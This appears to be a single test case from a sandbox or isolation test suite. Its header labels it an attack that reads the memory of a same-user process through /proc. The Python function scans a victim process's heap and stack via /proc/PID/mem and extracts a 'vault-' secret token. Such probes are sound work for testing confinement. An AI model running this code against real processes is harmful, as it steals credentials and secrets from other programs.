# attack: reads the memory of a process of the same user through /proc
# class: processes
# success: secret
# refused: in containers, and by Yama
# control: unconfined
import re
def f(x, note):
    with open("/proc/@victim@/maps") as maps, open("/proc/@victim@/mem", "rb", 0) as memory:
        for line in maps:
            if "[heap]" in line or "[stack]" in line:
                first, last = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(first)
                if found := re.search(rb"vault-[0-9a-f]{32}", memory.read(last - first)):
                    return found[0].decode()
